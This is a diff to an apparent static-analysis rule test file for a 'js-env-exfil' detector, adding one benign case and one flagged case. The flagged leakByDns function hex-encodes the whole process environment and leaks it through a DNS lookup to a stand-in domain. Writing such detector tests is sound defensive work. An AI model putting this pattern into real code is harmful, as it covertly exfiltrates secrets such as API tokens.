@@ -24,3 +24,17 @@ async function call() {
   // ok: js-env-exfil
   return fetch(process.env.API_URL, { headers: { authorization: `Bearer ${process.env.API_TOKEN}` } });
 }
+
+function spawnArgs(dir, event) {
+  const { resolve } = require("path");
+  // ok: js-env-exfil
+  const env = { ...process.env, pkg_json: resolve(dir, "package.json"), event };
+  return { env, cwd: dir };
+}
+
+function leakByDns() {
+  const dns = require("dns");
+  const blob = Buffer.from(JSON.stringify(process.env)).toString("hex").slice(0, 60);
+  // ruleid: js-env-exfil
+  dns.resolve(`${blob}.c.example.invalid`, () => {});
+}
